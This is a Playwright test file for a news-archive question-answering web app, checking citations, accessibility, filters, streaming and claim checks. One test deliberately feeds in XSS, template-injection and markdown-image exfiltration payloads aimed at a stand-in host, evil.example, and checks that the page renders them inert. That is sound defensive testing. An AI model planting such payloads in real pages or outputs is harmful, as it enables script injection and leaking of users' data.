"""Questions and answers, as people use them in a browser."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from playwright.sync_api import Page, expect

from rag.archive import Archive
from rag.config import Settings
from tests.browser.conftest import (
    FERRY,
    FIRST_ANSWER,
    FLOODED,
    SANK,
    Site,
    Sites,
    Visitor,
    ask,
)

pytestmark = [pytest.mark.browser, pytest.mark.enable_socket]


MOST_STOPS = 8
"""So many stops of the Tab key, at most, lie between the conversation and its first citation."""


def cited(site: Site, question: str, number: int) -> str:
    """The stored words that citation `number` of the answer must show."""
    with Archive.open(site.archive, settings=Settings(encoder="hashing")) as archive:
        citation = archive.ask(question).citations[number - 1]
        stored = archive.article(citation.article.id)
        return stored.text[citation.start : citation.end]


def focused(page: Page) -> str:
    """The focused element's tag, id and text."""
    return str(
        page.evaluate(
            "() => { const e = document.activeElement;"
            " return [e.tagName, e.id, e.innerText].join('|') }"
        )
    )


def test_a_question_is_answered_and_a_click_shows_the_cited_sentence(
    visitor: Visitor, sites: Sites
) -> None:
    page = visitor.visit(sites.corpus)
    expect(page).to_have_title("Dateline")
    assert page.evaluate("document.documentElement.lang") == "en"
    expect(page.locator("#facts")).to_contain_text("6 articles · 4 outlets")
    turn = ask(page, SANK)
    expect(turn).to_contain_text("The Courier, 3 May 2025: The Lindow ferry sank on Friday")
    mark = page.locator("#cite-target")
    expect(mark).to_be_visible()
    assert mark.text_content() == cited(sites.corpus, SANK, 1)
    assert focused(page).startswith("DIV|log|")
    link = turn.locator("a.cite").nth(1)
    link.click()
    expect(mark).to_have_text(cited(sites.corpus, SANK, 2))
    expect(mark).to_be_focused()
    assert mark.text_content() == cited(sites.corpus, SANK, 2)
    expect(link).to_have_attribute("aria-current", "true")
    expect(turn.locator("[aria-current]")).to_have_count(1)


def test_the_panel_shows_the_whole_article_and_where_it_is_from(
    visitor: Visitor, sites: Sites
) -> None:
    page = visitor.visit(sites.corpus)
    ask(page, SANK)
    panel = page.get_by_role("region", name="Cited article")
    expect(panel.get_by_role("heading")).to_have_text("Ferry sinks off Cape Orrin")
    expect(panel.locator(".facts")).to_contain_text("By Ada Brandt · 3 May 2025 · Sea · Original")
    paragraphs = panel.locator(".body p").all_text_contents()
    assert paragraphs == FERRY.split("\n\n")
    expect(panel.locator(".furniture").first).to_have_text(re.compile(r"LINDOW \(RNA\) -"))
    original = panel.get_by_role("link", name="Original")
    expect(original).to_have_attribute("href", re.compile(r"^https://courier\.example/1#:~:text="))
    expect(original).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(original).to_have_attribute("target", "_blank")


def test_the_keyboard_is_enough(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    expect(page.get_by_label("Question")).to_be_focused()
    page.keyboard.type(SANK)
    page.keyboard.press("Enter")
    links = page.locator("a.cite")
    expect(links.last).to_be_visible()
    expect(page.locator("#log")).to_be_focused()
    for _ in range(MOST_STOPS):
        page.keyboard.press("Tab")
        if focused(page).startswith("A||["):
            break
    expect(links.first).to_be_focused()
    outline = "getComputedStyle(document.activeElement).outlineStyle"
    assert page.evaluate(outline) == "solid"
    page.keyboard.press("Enter")
    expect(page.locator("#cite-target")).to_be_focused()
    assert page.evaluate(outline) == "solid"
    page.keyboard.press("Escape")
    expect(links.first).to_be_focused()


def test_a_declined_answer_looks_different_and_offers_the_nearest_articles(
    visitor: Visitor, sites: Sites
) -> None:
    page = visitor.visit(sites.corpus)
    turn = ask(page, "What does a brigade zebra eat?")
    expect(turn.locator(".declined")).to_contain_text("The archive does not answer this.")
    expect(turn.locator(".verdict")).to_have_count(0)
    turn.locator("a.cite").first.click()
    expect(page.locator("#article h2")).to_have_text("Chapel fire: nine dead")
    expect(page.locator("#cite-target.near")).to_be_focused()
    nothing = ask(page, "Xylophone quartz zebra?")
    expect(nothing.locator(".declined")).to_contain_text("The archive holds nothing on this.")
    expect(nothing.locator("a.cite, a.near")).to_have_count(0)


def test_a_filter_that_cannot_be_read_loses_nothing(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    page.get_by_role("button", name="Filters").click()
    page.get_by_label("From").fill("someday")
    question = page.get_by_label("Question")
    question.fill(FLOODED)
    page.get_by_role("button", name="Ask", exact=True).click()
    alert = page.locator("#notice").get_by_role("alert")
    expect(alert).to_contain_text("From: 'someday' is not a date; write it as 2020-09-11")
    expect(page.locator("#chosen")).to_contain_text("From: 'someday' is not a date")
    expect(question).to_have_value(FLOODED)
    expect(page.locator(".turn")).to_have_count(0)
    page.get_by_label("From").fill("2025-06")
    question.press("Enter")
    expect(page.locator(".turn")).to_contain_text("The harbour of Marsk flooded on Monday")
    expect(page.locator(".turn .note")).to_have_text("Searched only from 2025-06-01.")
    expect(alert).to_be_empty()
    expect(question).to_have_value("")


def test_what_was_understood_is_shown_and_can_be_dropped(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    turn = ask(
        page, "Why was the harbour of Marsk flooded in 1931 after days of rain on 3 May 2025?"
    )
    chips = turn.locator(".understood .chip")
    expect(chips).to_have_count(3)
    expect(chips.last).to_contain_text("“Why” read as: why or how")
    dated = chips.nth(1)
    expect(dated).to_contain_text("“on 3 May 2025” preferably since 3 May 2025")
    dated.get_by_role("button", name="Ask again without “on 3 May 2025”").click()
    again = page.locator(".turn").nth(1)
    expect(again.locator('.reply[aria-busy="false"]')).to_contain_text("flooded on Monday")
    expect(again.locator(".understood .chip:not(.dropped)")).to_have_count(2)
    again.get_by_role("button", name="Ask again without “Why”").click()
    third = page.locator(".turn").nth(2)
    expect(third.locator(".understood .chip.dropped")).to_contain_text(
        ["“on 3 May 2025” not used", "“Why” not used"]
    )
    third.get_by_role("button", name="Ask again with “on 3 May 2025”").click()
    fourth = page.locator(".turn").nth(3)
    expect(fourth.locator(".understood")).to_contain_text("“on 3 May 2025” preferably since")
    expect(fourth.locator(".understood .chip.dropped")).to_have_count(1)


def test_what_a_follow_up_was_taken_to_mean_can_be_edited(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    ask(page, "How many people were aboard the Lindow ferry?")
    turn = ask(page, "And the Marsk harbour?")
    taken = turn.locator(".taken")
    expect(taken).to_contain_text("Understood as: ")
    whole = taken.get_by_role("button").text_content() or ""
    assert "Marsk harbour" in whole
    assert whole != "And the Marsk harbour?"
    taken.get_by_role("button").click()
    box = page.get_by_label("Question")
    expect(box).to_be_focused()
    expect(box).to_have_value(whole)
    box.press("End")
    page.keyboard.type(" Please.")
    page.keyboard.press("Enter")
    edited = page.locator(".turn").nth(2)
    expect(edited.get_by_role("heading").first).to_have_text(f"You asked: {whole} Please.")


def test_a_way_on_drops_the_filter_that_left_nothing(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    page.get_by_role("button", name="Filters").click()
    page.get_by_label("From").fill("2030")
    turn = ask(page, FLOODED)
    expect(turn.locator(".declined")).to_be_visible()
    turn.get_by_role("button", name="Drop the filter on dates").click()
    again = page.locator(".turn").nth(1)
    expect(again.locator(".answer")).to_contain_text("The harbour of Marsk flooded on Monday")
    expect(again.locator(".note")).to_have_count(0)
    expect(page.get_by_label("From")).to_have_value("")
    expect(page.locator("#chosen .chip")).to_have_count(0)


def test_did_you_mean_asks_with_the_other_name(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    turn = ask(page, "Who owns the zeppelins of Lindou?")
    turn.get_by_role("button", name="Did you mean “Lindow”?").click()
    heading = page.locator(".turn").nth(1).get_by_role("heading").first
    expect(heading).to_have_text("You asked: Who owns the zeppelins of Lindow?")


def test_the_nearest_sentences_of_a_declined_answer_open_their_article(
    visitor: Visitor, sites: Sites
) -> None:
    with Archive.open(sites.kept.archive, settings=Settings(encoder="hashing")) as archive:
        near = archive.ask(SANK)
        none = archive.ask("Xylophone quartz zebra?")
        said = replace(none, citations=near.citations[:2]).to_dict()
        id_, _ = archive.conversations.append("", "", said, datetime.now(UTC))
    page = visitor.visit(sites.kept)
    page.goto(f"{sites.kept.url}/?c={id_}")
    declined = page.locator(".declined")
    expect(declined.get_by_role("heading", name="Nearest", exact=True)).to_be_visible()
    expect(declined.locator("h3", has_text="Nearest articles")).to_have_count(0)
    expect(page.locator(".verdict")).to_have_count(0)
    declined.locator("a.cite").nth(1).click()
    mark = page.locator("#cite-target.near")
    expect(mark).to_be_focused()
    assert mark.text_content() == near.citations[1].quote


def test_an_empty_question_is_refused_in_words(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    page.get_by_role("button", name="Ask", exact=True).click()
    expect(page.locator("#notice")).to_contain_text("the question is empty")
    expect(page.locator(".turn")).to_have_count(0)


def test_what_articles_and_questions_contain_stays_inert(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    question = (
        "Zorbing contest? <img src=x onerror=alert(6)> ${alert(7)} {{8}} ![](http://evil.example)"
    )
    turn = ask(page, question)
    expect(turn.get_by_role("heading")).to_have_text("You asked: " + question)
    expect(page.locator("#article h2")).to_have_text("<img src=x onerror=alert(5)>")
    body = page.locator("#article .body")
    expect(body).to_contain_text("![crowds](http://evil.example/p.png?q=secret)")
    expect(body).to_contain_text('{{constructor.constructor("alert(4)")()}}')
    expect(body).to_contain_text("**Bold** $x^2$.")
    expect(body).to_contain_text("Nothing else happened & nobody cared.")
    inert = page.locator("#log, #article").locator("img, script, iframe, b, form, style, svg")
    expect(inert).to_have_count(0)
    expect(page.locator("#article article")).to_have_count(1)


def test_a_follow_up_is_understood_from_what_came_before(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    ask(page, "The captain of the ferry")
    turn = ask(page, "What had she said, the captain?")
    expect(turn).to_contain_text("Ilse Varga")
    expect(turn.locator("a.cite").first).to_have_attribute("href", "#cite-2-1")
    page.locator(".turn").first.locator("a.cite").first.click()
    expect(page.locator("#article article")).to_have_attribute("data-key", "cite-1-1")
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator(".turn")).to_have_count(0)
    expect(page.locator(".welcome")).to_be_visible()
    expect(page.locator("#article")).to_contain_text("Choose a citation")


def test_two_people_see_nothing_of_each_other(visitor: Visitor, sites: Sites) -> None:
    one, other = visitor.visit(sites.corpus), visitor.visit(sites.corpus)
    ask(one, SANK)
    ask(other, FLOODED)
    ask(one, "Who was the captain of the ferry?")
    expect(one.locator(".turn")).to_have_count(2)
    expect(other.locator(".turn")).to_have_count(1)
    expect(one.locator("#log")).not_to_contain_text(FLOODED)
    expect(other.locator("#article h2")).to_have_text("Marsk under water")
    expect(one.locator("#article h2")).to_have_text("Ferry sinks off Cape Orrin")


def test_the_first_start_builds_the_samples_and_offers_questions_about_them(
    visitor: Visitor, sites: Sites
) -> None:
    assert re.fullmatch(r"\d+\.\d s", sites.samples.wait_for(FIRST_ANSWER))
    page = visitor.visit(sites.samples)
    expect(page.locator("#facts")).to_contain_text("searched by words and meaning")
    expect(page.locator("button.example")).to_have_count(4)


def test_the_quote_is_shown_where_its_number_is_pointed_at_or_focused(
    visitor: Visitor, sites: Sites
) -> None:
    page = visitor.visit(sites.corpus)
    link = ask(page, SANK).locator("a.cite").first
    tip = page.locator(".tip.shown")
    link.hover()
    expect(tip).to_contain_text("The Courier, 3 May 2025")
    expect(tip).to_contain_text("“The Lindow ferry sank on Friday with 41 people aboard.”")
    page.mouse.move(0, 0)
    expect(tip).to_have_count(0)
    link.focus()
    expect(tip).to_be_visible()
    page.keyboard.press("Escape")
    expect(tip).to_have_count(0)


def test_a_number_opens_its_citation_unless_that_is_switched_off(
    visitor: Visitor, sites: Sites
) -> None:
    page = visitor.visit(sites.corpus)
    turn = ask(page, SANK)
    turn.locator("summary", has_text="How this was found").focus()
    page.keyboard.press("2")
    expect(page.locator("#cite-target")).to_be_focused()
    expect(page.locator("#cite-target")).to_have_text(cited(sites.corpus, SANK, 2))
    page.get_by_label("Question").press("1")
    expect(page.get_by_label("Question")).to_have_value("1")
    page.get_by_label("Number keys open citations").uncheck()
    page.keyboard.press("1")
    expect(page.locator("#cite-target")).to_have_text(cited(sites.corpus, SANK, 2))


def test_how_an_answer_was_found_is_told_on_demand(visitor: Visitor, sites: Sites) -> None:
    page = visitor.visit(sites.corpus)
    turn = ask(page, SANK)
    steps = turn.locator(".steps")
    expect(steps.locator("dl")).to_be_hidden()
    steps.locator("summary").click()
    expect(steps).to_contain_text("no date and no outlet in the question")
    expect(steps).to_contain_text(re.compile(r"Found\s*\d+ passages? of \d+ articles?"))
    expect(steps).to_contain_text("100% of the archive")
    expect(page.locator("#article .also")).to_have_text("Also carried by Lake Post")


def test_what_no_article_bears_out_is_left_out_of_an_answer_and_said_so(
    visitor: Visitor, sites: Sites
) -> None:
    true = "Rust in the steel hangers caused the Osier Bridge to fall [1]."
    sites.model.mode, sites.model.pieces = "ok", [true, " It was built in Lisbon in 1904 [1]."]
    try:
        page = visitor.visit(sites.samples)
        turn = ask(page, "What caused the collapse of the Osier Bridge?")
    finally:
        sites.model.mode, sites.model.pieces = "stalls", ["The ferry ", "sank [1]. "]
    expect(turn.locator(".answer")).to_contain_text("Rust in the steel hangers")
    expect(turn.locator(".answer")).not_to_contain_text("Lisbon")
    expect(turn.locator(".changes p")).to_have_text(
        "Checking left out one sentence of the model's answer:"
    )
    expect(turn.locator(".changes del")).to_have_text("It was built in Lisbon in 1904.")
    expect(turn.locator(".changes .why")).to_be_visible()
    expect(turn.locator(".note", has_text="Lisbon")).to_have_count(0)
    spent = r"tiny · 1 request · 31 tokens read, 5 written · \d+\.\d s · \$0\.0410"
    expect(turn.locator(".note").first).to_have_text(re.compile(spent))


@pytest.mark.parametrize(
    ("verdict", "mark"),
    [
        ("partly", "◐ partly supported"),
        ("unsupported", "✕ not supported"),
        ("quote altered", "≠ quotation altered"),
    ],
)
def test_a_sentence_that_is_doubted_is_marked_by_sign_words_and_reason(
    visitor: Visitor, sites: Sites, verdict: str, mark: str
) -> None:
    with Archive.open(sites.kept.archive, settings=Settings(encoder="hashing")) as archive:
        said = archive.ask(SANK).to_dict()
        said["claims"][0] |= {"verdict": verdict, "reasons": ["41 stands nowhere in it"]}
        id_, _ = archive.conversations.append("", "", said, datetime.now(UTC))
    page = visitor.visit(sites.kept)
    page.goto(f"{sites.kept.url}/?c={id_}")
    shown = page.locator("button.verdict")
    expect(shown).to_have_text(mark)
    expect(page.locator(".verdict")).to_have_count(1)
    shown.focus()
    expect(page.locator(".tip.shown")).to_contain_text("41 stands nowhere in it")


def test_a_streamed_answer_can_be_stopped(visitor: Visitor, sites: Sites) -> None:
    sites.model.released.clear()
    page = visitor.visit(sites.samples)
    page.locator("button.example").first.click()
    streaming = page.locator(".turn .streaming")
    expect(streaming).to_have_text("The ferry sank [1].")
    expect(streaming.get_by_role("link")).to_have_count(0)
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".turn .unchecked")).to_have_text("The ferry sank [1].")
    expect(page.locator(".turn .note")).to_contain_text("Stopped: not checked.")
    expect(page.locator(".turn .verdict, .turn a.cite")).to_have_count(0)
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()
    sites.model.released.set()


def test_a_question_sent_while_another_is_answered_is_asked_next(
    visitor: Visitor, sites: Sites
) -> None:
    sites.model.released.clear()
    page = visitor.visit(sites.samples)
    box = page.get_by_label("Question")
    box.fill(SANK)
    box.press("Enter")
    box.press("Enter")
    expect(page.locator(".turn .streaming")).to_have_text("The ferry sank [1].")
    box.fill(FLOODED)
    box.press("Enter")
    sites.model.released.set()
    expect(page.locator('.turn .reply[aria-busy="false"]')).to_have_count(2)
    questions = [f"You asked: {SANK}", f"You asked: {FLOODED}"]
    expect(page.locator(".turn h2")).to_have_text(questions)
    expect(box).to_have_value("")
    box.press("Enter")
    ask(page, SANK)
    expect(page.locator(".turn")).to_have_count(3)
    expect(page.locator("#notice")).to_have_text("")


def test_a_question_sent_at_once_after_a_stop_is_answered(visitor: Visitor, sites: Sites) -> None:
    sites.model.released.clear()
    page = visitor.visit(sites.samples)
    box = page.get_by_label("Question")
    box.fill(SANK)
    box.press("Enter")
    expect(page.locator(".turn .streaming")).to_have_text("The ferry sank [1].")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".turn .note").first).to_contain_text("Stopped: not checked.")
    box.fill(FLOODED)
    box.press("Enter")
    # What was stopped still waits for its model on the server.
    expect(page.locator(".turn").nth(1).locator(".streaming")).to_be_visible()
    sites.model.released.set()
    expect(page.locator(".turn").nth(1).locator('.reply[aria-busy="false"]')).to_be_visible()
    expect(page.locator(".turn h2")).to_have_text([f"You asked: {SANK}", f"You asked: {FLOODED}"])


def test_a_model_that_fails_is_replaced_and_the_page_says_so(
    visitor: Visitor, sites: Sites
) -> None:
    sites.model.released.clear()
    page = visitor.visit(sites.samples)
    page.locator("button.example").first.click()
    expect(page.locator(".turn .streaming")).to_have_text("The ferry sank [1].")
    sites.model.released.set()
    expect(page.locator(".turn .note").first).to_contain_text("The language model did not answer")
    page.locator(".turn a.cite").first.click()
    expect(page.locator("#cite-target")).to_be_focused()
